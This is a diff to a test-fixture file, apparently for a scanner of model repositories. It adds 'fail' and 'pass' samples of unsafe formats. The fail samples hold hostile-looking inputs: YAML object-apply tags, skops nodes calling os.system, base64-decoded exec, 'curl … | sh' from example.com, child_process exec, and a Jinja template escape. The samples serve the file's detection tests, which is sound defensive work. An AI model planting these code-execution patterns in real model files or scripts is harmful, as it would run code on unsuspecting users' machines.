@@ -60,6 +60,25 @@ LAMBDA = {
 LAMBDA_2 = {"class_name": "Lambda", "config": {"function": ["4wEAAAA=\n", None, None], "function_type": "lambda"}}
 LOOKUP = {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
 
+
+def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
+    """A node of a skops schema."""
+    return {"__loader__": loader, "__module__": module, "__class__": name, "__id__": 1, **more}
+
+
+def skops(root: dict[str, object]) -> bytes:
+    schema = root | {"protocol": 2, "_skops_version": "0.16.0"}
+    return make_zip([zip_entry(b"schema.json", _json(schema))])
+
+
+ESTIMATOR = node(
+    "ObjectNode",
+    "sklearn.linear_model._logistic",
+    "LogisticRegression",
+    content=node("DictNode", "builtins", "dict", content={"C": node("JsonNode", "builtins", "float", content="1.0")}),
+)
+UFUNC = node("FunctionNode", "numpy", "log1p", content="log1p")
+
 EXAMPLES: dict[str, dict[str, bytes]] = {
     "template-escape": {
         "fail/chat_template.jinja": b"{% for m in messages %}{{ m.content }}{% endfor %}{{ ''['__cla' ~ 'ss__'] }}\n",
@@ -132,5 +151,62 @@ EXAMPLES: dict[str, dict[str, bytes]] = {
         "fail/continued.h5": hdf5([message(0x10, (96 + 16).to_bytes(8, "little") + (64).to_bytes(8, "little"))]),
         "fail/cut.h5": hdf5([soft_link("weights", "/other")])[:-8],
         "pass/soft.h5": hdf5([soft_link("weights", "/other")]),
+    },
+    "yaml-object": {
+        "fail/apply.yaml": b"model: !!python/object/apply:os.getcwd []\n",
+        "fail/new.yaml": b"model: !new:subprocess.Popen\n  args: [echo, this ran]\n",
+        "fail/written-out.yaml": b"a: !<tag:yaml.org,2002:%70ython/object/apply:os.getcwd> []\n",
+        "pass/config.yaml": b"model: {name: x, shape: !!python/tuple [1, 2]}\nlayers:\n- !new:torch.nn.Linear\n  a: 1\n",
+    },
+    "skops-dangerous": {
+        "fail/function.skops": skops(node("FunctionNode", "os", "system", content="system")),
+        "fail/operator.skops": skops(
+            node(
+                "OperatorFuncNode",
+                "operator",
+                "methodcaller",
+                attrs=node("TupleNode", "builtins", "tuple", content=[]),
+            )
+        ),
+        "fail/method.skops": skops(
+            node("MethodNode", "builtins", "str", content={"func": "__reduce__", "obj": ESTIMATOR})
+        ),
+        "pass/estimator.skops": skops(ESTIMATOR),
+    },
+    "skops-unknown": {
+        "fail/own-class.skops": skops(node("ObjectNode", "acme.models", "Net", content=None)),
+        "fail/own-function.skops": skops(node("FunctionNode", "acme.features", "scale", content="scale")),
+        "pass/function.skops": skops(UFUNC),
+    },
+    "python-code": {
+        "fail/modeling.py": b"import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n",
+        "fail/train.ipynb": _json(
+            {
+                "nbformat": 4,
+                "nbformat_minor": 5,
+                "metadata": {},
+                "cells": [{"cell_type": "code", "source": ["1 + 1"]}],
+            }
+        ),
+        "pass/notes.txt": b"import torch\n",
+    },
+    "python-dangerous-code": {
+        "fail/modeling.py": b"import base64\n\nexec(base64.b64decode('cHJpbnQoInRoaXMgcmFuIik='))\n",
+        "fail/by-name.py": b"getattr(__import__('os'), 'get' + 'cwd')()\n",
+        "fail/compiled.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3",
+        "pass/modeling.py": b"import json\n\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n",
+    },
+    "script-file": {
+        "fail/convert.sh": b"#!/bin/sh\npython convert.py model.bin\n",
+        "pass/notes.md": b"Run convert.sh first.\n",
+    },
+    "script-dangerous": {
+        "fail/install.sh": b"#!/bin/sh\ncurl -s https://example.com/x | sh\n",
+        "fail/start.js": b"require('child_process').exec('id')\n",
+        "pass/convert.sh": b"#!/bin/sh\npython convert.py model.bin\n",
+    },
+    "path-file-code": {
+        "fail/weights.pth": b"import sys; print('this ran')\n",
+        "pass/paths.pth": b"/opt/models\n",
     },
 }
